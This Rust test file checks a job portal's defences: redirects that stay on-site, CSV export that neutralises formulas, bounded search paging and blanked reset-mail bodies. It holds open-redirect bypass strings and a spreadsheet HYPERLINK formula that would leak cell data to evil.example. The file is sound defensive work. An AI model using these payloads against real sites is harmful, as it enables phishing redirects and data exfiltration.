//! Issue 20, what goes out of the portal: return addresses stay on the portal, exported cells are never
//! formulas, a posted search stays within bounds, and a delivered mail's single-use link is not kept.
use axum::{
    body::Body,
    http::{Request, StatusCode},
};
use dnaker::{
    features::{
        accounts::api::{RequestPasswordReset, SignIn},
        vacancies::{api::SearchVacancies, query::MAX_PAGE},
    },
    server::{config::Config, db::Db, mail::deliver_due, secrets::SecretKey, state::AppState},
    wiring,
};
use leptos::server_fn::ServerFn;
use tower::ServiceExt;

use crate::{
    ak1::json,
    common::{
        Client, TestApp,
        matrix::{self, Actor},
    },
    vacancies::{post_vacancy, verify_company},
};

/// The text of a single-part .eml, whichever transfer encoding lettre chose.
fn eml_body(eml: &str) -> String {
    use base64::Engine;
    let (head, body) = eml.split_once("\r\n\r\n").unwrap_or((eml, ""));
    if head
        .to_ascii_lowercase()
        .contains("transfer-encoding: base64")
    {
        let compact: String = body.split_whitespace().collect();
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(compact)
            .unwrap_or_default();
        String::from_utf8_lossy(&bytes).into_owned()
    } else {
        body.replace("=\r\n", "").replace("=3D", "=")
    }
}

/// Open-redirect attempts as they would be typed into `?kembali=` (percent-encoded once more by the
/// query string they travel in).
const BYPASSES: &[&str] = &[
    "/%09/evil.example",
    "/%0D%0A/evil.example",
    "//evil.example",
    "/%5Cevil.example",
    "/%5C%5Cevil.example",
    "%5C/%5C/evil.example",
    "/%252F%252Fevil.example",
    "/%2F%2Fevil.example",
    "https:evil.example",
    "https://evil.example",
    "/%E2%80%8B/evil.example",
    "/%C2%85/evil.example",
    "%20//evil.example",
];

on_both_backends!(
    language_switch_and_sign_in_go_back_only_to_this_portal,
    |app: TestApp| async move {
        for attempt in BYPASSES {
            let response = app.get(&format!("/bahasa/id?kembali={attempt}")).await;
            assert_eq!(response.status, StatusCode::SEE_OTHER, "{attempt}");
            assert_eq!(response.headers["location"], "/", "{attempt}");
        }
        let back = app
            .get("/bahasa/en?kembali=/lowongan%3Fq%3Dlas%2Bbesi%26hal%3D2")
            .await;
        assert_eq!(back.headers["location"], "/lowongan?q=las+besi&hal=2");

        // The sign-in form's `next`, posted before the page hydrated: the answer is a redirect.
        matrix::fixture(&app).await;
        for (i, next) in ["/\t/evil.example", "/%2F%2Fevil.example", "/\\evil.example"]
            .into_iter()
            .enumerate()
        {
            let request = Request::post(SignIn::PATH)
                .header("content-type", "application/x-www-form-urlencoded")
                .header("accept", "text/html")
                .header("origin", "http://localhost")
                .header("host", "localhost")
                .header("x-forwarded-for", format!("10.74.0.{}", i + 1))
                .body(Body::from(crate::common::form_encode(&[
                    ("next", next),
                    ("email", matrix::email(Actor::SeekerA)),
                    ("password", matrix::PASSWORD),
                ])))
                .expect("request");
            let response = app.request(request).await;
            assert_eq!(response.status, StatusCode::FOUND, "{}", response.body);
            assert_eq!(response.headers["location"], "/akun", "{next:?}");
        }
    }
);

on_both_backends!(
    an_exported_vacancy_title_is_never_a_formula,
    |app: TestApp| async move {
        let f = matrix::fixture(&app).await;
        verify_company(&app, f.company_a).await;
        let mut company = matrix::signed_in(&app, Actor::CompanyAdminA, "10.75.0.1").await;
        let title = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klik\")";
        post_vacancy(&mut company, title, &[]).await;
        let csv = company.get("/perusahaan/laporan/lowongan.csv").await;
        assert_eq!(csv.status, StatusCode::OK, "{}", csv.body);
        let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
        let titles: Vec<String> = reader
            .records()
            .map(|r| r.expect("a CSV record")[1].to_owned())
            .collect();
        assert_eq!(titles, vec![format!("'{title}")]);
    }
);

/// The portal with the production body limit (2 MB; the tests' own is 64 KB), on the same database.
fn with_production_body_limit(app: &TestApp) -> (AppState, axum::Router) {
    let mut config: Config = (*app.state.config).clone();
    config.server.body_limit_bytes = Config::default().server.body_limit_bytes;
    let db = Db::connect_lazy(&config.database_url()).expect("database url");
    let secret = SecretKey::load_or_generate(None, &config.server.data_dir).expect("secret");
    let state = AppState::new(config, db, secret).expect("state");
    state.mark_migrated();
    let router = wiring::router(state.clone());
    (state, router)
}

on_both_backends!(
    a_posted_search_stays_within_bounds,
    |app: TestApp| async move {
        let mut visitor = Client::new(&app, "10.76.0.1");
        for (page, expected) in [
            ("9223372036854775807", MAX_PAGE),
            ("4611686018427387904", MAX_PAGE),
            ("-1", 1),
            ("-9223372036854775808", 1),
            ("0", 1),
        ] {
            let response = visitor
                .post(SearchVacancies::PATH, &[("query[page]", page)])
                .await;
            assert_eq!(
                response.status,
                StatusCode::OK,
                "page {page}: {}",
                response.body
            );
            assert_eq!(
                json(&response.body)["results"]["page"],
                expected,
                "page {page}"
            );
        }
        // The public page itself, with the same pages in its address.
        for page in ["9223372036854775807", "-1"] {
            let response = app.get(&format!("/lowongan?hal={page}")).await;
            assert_eq!(response.status, StatusCode::OK, "hal={page}");
        }

        // 100 KB of search text, as the portal's 2 MB body limit lets through: a normal answer, and
        // what the cache keeps for it is small.
        let (state, router) = with_production_body_limit(&app);
        let text = "las ".repeat(25_000);
        let request = Request::post(SearchVacancies::PATH)
            .header("content-type", "application/x-www-form-urlencoded")
            .header("accept", "application/json")
            .header("origin", "http://localhost")
            .header("host", "localhost")
            .body(Body::from(crate::common::form_encode(&[(
                "query[text]",
                &text,
            )])))
            .expect("request");
        let response = router.oneshot(request).await.expect("router answers");
        assert_eq!(response.status(), StatusCode::OK);
        let kept = state
            .cache
            .get::<dnaker::features::vacancies::search::SearchCaches>()
            .search_bytes()
            .await;
        assert!(kept > 0, "the search was kept");
        assert!(
            kept < 10_000,
            "a 100 KB text weighs {kept} bytes in the cache"
        );
    }
);

on_both_backends!(a_delivered_mail_keeps_no_link, |app: TestApp| async move {
    matrix::fixture(&app).await;
    let email = matrix::email(Actor::SeekerA);
    let mut visitor = Client::new(&app, "10.77.0.1");
    let response = visitor
        .post(RequestPasswordReset::PATH, &[("email", email)])
        .await;
    assert_eq!(response.status, StatusCode::OK, "{}", response.body);
    let token = app.last_mail_token(email).await.expect("a reset link");

    assert!(deliver_due(&app.state).await.expect("delivered") >= 1);
    let (body, subject, sent): (String, String, Option<i64>) = sqlx::query_as(
        "SELECT body_text, subject, sent_at_ms FROM mail_outbox WHERE to_address = $1",
    )
    .bind(email)
    .fetch_one(&app.db().pool)
    .await
    .expect("outbox row");
    assert_eq!(body, "", "the body is blanked once delivered");
    assert!(!subject.is_empty() && sent.is_some(), "the metadata stays");
    // The file transport's .eml is the delivery: the link is there for the person (and the e2e tests).
    let outbox = app.state.config.server.data_dir.join("outbox");
    let delivered = std::fs::read_dir(&outbox)
        .expect("outbox folder")
        .flatten()
        .filter(|e| e.path().extension().is_some_and(|x| x == "eml"))
        .map(|e| std::fs::read_to_string(e.path()).unwrap_or_default())
        .any(|eml| eml_body(&eml).contains(&token));
    assert!(delivered, "the .eml holds the link");

    // Mail sent before the sender blanked bodies: the migration blanks it, and leaves unsent mail.
    for (to, sent) in [
        ("old@example.co.id", Some(1_i64)),
        ("due@example.co.id", None),
    ] {
        sqlx::query(
                "INSERT INTO mail_outbox (to_address, subject, body_text, created_at_ms, next_attempt_at_ms, \
                 attempts, sent_at_ms) VALUES ($1, 'Atur sandi', 'https://x/atur-sandi?token=abc', 1, 1, 0, $2)",
            )
            .bind(to)
            .bind(sent)
            .execute(&app.db().pool)
            .await
            .expect("old mail");
    }
    let purge = match app.db().backend {
        dnaker::server::db::Backend::Sqlite => {
            include_str!("../../migrations/sqlite/20261205000016_purge_sent_mail_bodies.sql")
        }
        dnaker::server::db::Backend::Postgres => {
            include_str!("../../migrations/postgres/20261205000016_purge_sent_mail_bodies.sql")
        }
    };
    sqlx::raw_sql(purge)
        .execute(&app.db().pool)
        .await
        .expect("purge");
    assert_eq!(
            app.count("SELECT COUNT(*) FROM mail_outbox WHERE body_text LIKE '%token=%' AND sent_at_ms IS NOT NULL")
                .await,
            0
        );
    assert_eq!(
            app.count("SELECT COUNT(*) FROM mail_outbox WHERE to_address = 'due@example.co.id' AND body_text <> ''")
                .await,
            1
        );
});
